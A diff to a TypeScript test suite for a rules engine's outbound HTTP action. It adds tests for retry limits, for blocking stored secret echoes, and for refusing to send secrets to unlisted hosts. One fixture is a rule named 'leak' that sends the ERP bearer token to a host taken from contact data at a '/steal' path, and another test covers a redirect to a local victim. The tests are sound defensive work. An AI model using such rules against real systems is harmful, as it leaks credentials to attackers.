@@ -29,6 +29,36 @@ if: { fact: contact.name, operator: matches, value: "^Slow" }
 do:
   - http-request: { name: notify, url: "${erp}/orders/slow", body: { contactId: "{{contact.id}}" }, timeout: 1s }
 `,
+  'down.yaml': `
+rule: down
+on: contact.created
+if: { fact: contact.name, operator: matches, value: "^Down" }
+do:
+  - http-request: { name: notify, url: "${erp}/orders/down", body: { contactId: "{{contact.id}}" }, timeout: 1s }
+`,
+  'echo.yaml': `
+rule: echo
+on: contact.created
+if: { fact: contact.name, operator: matches, value: "^Echo" }
+do:
+  - http-request:
+      name: echo
+      method: GET
+      url: "${erp}/echo/{{contact.id}}"
+      headers: { Authorization: "Bearer \${secret.ERP_TOKEN}" }
+      save: { echo: "$.echo" }
+`,
+  'elsewhere.yaml': `
+rule: elsewhere
+on: contact.created
+if: { fact: contact.name, operator: matches, value: "^Elsewhere" }
+do:
+  - http-request:
+      name: leak
+      method: GET
+      url: "http://{{contact.customFields.company}}:${victimPort}/steal"
+      headers: { Authorization: "Bearer \${secret.ERP_TOKEN}" }
+`,
   'missing.yaml': `
 rule: missing
 on: contact.created
@@ -89,6 +119,7 @@ describe('http-request against a real receiver', () => {
   let db: DataSource;
   let erp: Receiver;
   let victim: Receiver;
+  const downAt: { body: string; at: number }[] = [];
 
   beforeAll(async () => {
     // The victim listens where rules must not reach (127.0.0.1); the ERP on 127.0.0.2, the one
@@ -97,12 +128,17 @@ describe('http-request against a real receiver', () => {
     erp = await startReceiver('127.0.0.2', SIGNING_SECRET, {
       '/orders/flaky': (_req, seen) => (seen === 1 ? { status: 503 } : { status: 200, json: { ok: true } }),
       '/orders/slow': (_req, seen) => (seen === 1 ? 'hold' : { status: 200, json: { ok: true } }),
+      '/orders/down': (req) => {
+        downAt.push({ body: req.body, at: Date.now() });
+        return { status: 503 };
+      },
+      '/echo/': (req) => ({ status: 200, json: { echo: req.headers.authorization } }),
       '/orders/missing': () => ({ status: 404, json: { error: 'no such order' } }),
       '/accounts/': (req) =>
         req.headers.authorization === `Bearer ${ERP_TOKEN}`
           ? { status: 200, json: { account: { company: 'Acme' }, orders: [{ status: 'shipped' }] } }
           : { status: 401 },
-      '/redirect': () => ({ status: 302, headers: { location: `${victim.url}/steal` } }),
+      '/redirect': () => ({ status: 307, headers: { location: `${victim.url}/steal` } }),
     });
     h = await startHarness({
       rules: rules(erp.url, victim.port),
@@ -111,6 +147,7 @@ describe('http-request against a real receiver', () => {
         HTTP_ACTION_ALLOW_PRIVATE: '127.0.0.2/32',
         HTTP_ACTION_SIGNING_SECRET: SIGNING_SECRET,
         HTTP_SECRET_ERP_TOKEN: ERP_TOKEN,
+        HTTP_ACTION_SECRET_HOSTS: 'ERP_TOKEN=127.0.0.2',
         // One CRM 500 fails a job attempt (no gateway retries): the run's retry is a new job.
         CRM_MAX_RETRIES: '0',
       },
@@ -158,6 +195,42 @@ describe('http-request against a real receiver', () => {
     expect(sent.map((r) => r.answered)).toEqual(['held', 200]);
     expect(new Set(sent.map((r) => r.key)).size).toBe(1);
     expect(erp.applied.get(sent[0].key!)).toBe(1);
+  });
+
+  // Finding: a failing request was attempted 23 times against 5 configured (observed 5 for 4
+  // documented, the first retry 12-50 ms after the failure). HTTP_ACTION_MAX_ATTEMPTS (4) bounds
+  // the sends on the action's row, and the first retry waits the backoff's first step (1 s).
+  it('sends a request that keeps failing at most HTTP_ACTION_MAX_ATTEMPTS times, then dead', async () => {
+    const contact = await newContact(h, 'Down Dan');
+    const [row] = await settled(contact.id, 'down');
+    expect(row).toMatchObject({ status: 'dead', error_code: 'http_status', http_status: 503, attempts: 4 });
+    const sent = downAt.filter((r) => r.body.includes(contact.id));
+    expect(sent).toHaveLength(4);
+    expect(sent[1].at - sent[0].at).toBeGreaterThanOrEqual(900);
+  });
+
+  // Finding: a rule could send any secret to any allowed host, and `save:` stored an echoed secret
+  // in action_results.saved (shown by the admin API and the console).
+  it('refuses to store a saved value that holds a secret, saying why, storing nothing', async () => {
+    const contact = await newContact(h, 'Echo Eve');
+    const [row] = await settled(contact.id, 'echo');
+    expect(row).toMatchObject({ status: 'failed', error_code: 'saved_value_holds_secret', saved: null });
+    expect(row.error_message).toMatch(/save key "echo": it holds the value of secret ERP_TOKEN/);
+    const stored = await db.query(
+      `SELECT count(*)::int AS n FROM action_results a JOIN runs r ON r.id = a.run_id
+        WHERE row_to_json(a)::text LIKE $1 OR row_to_json(r)::text LIKE $1`,
+      [`%${ERP_TOKEN}%`],
+    );
+    expect(stored[0].n).toBe(0);
+  });
+
+  it('refuses a secret sent to a host HTTP_ACTION_SECRET_HOSTS does not name, sending nothing', async () => {
+    // A templated host: validate cannot know it (a written-out one is secret-host-not-allowed).
+    const contact = await newContact(h, 'Elsewhere Ed', { customFields: { company: 'localhost' } });
+    const [row] = await settled(contact.id, 'elsewhere');
+    expect(row).toMatchObject({ status: 'failed', error_code: 'egress_secret_refused', attempts: 1 });
+    expect(row.error_message).toMatch(/secret ERP_TOKEN may not be sent to localhost/);
+    expect(victim.requests).toEqual([]);
   });
 
   it('ends a 404 failed at once, with the status on the row, and runs nothing after it', async () => {
@@ -233,7 +306,7 @@ describe('http-request against a real receiver', () => {
       /resolved from localhost\): loopback/,
     ],
     [
-      'a redirect to 127.0.0.1',
+      'a 307 redirect to 127.0.0.1',
       'RefuseRedirect',
       'refuse-redirect',
       'egress_address_refused',
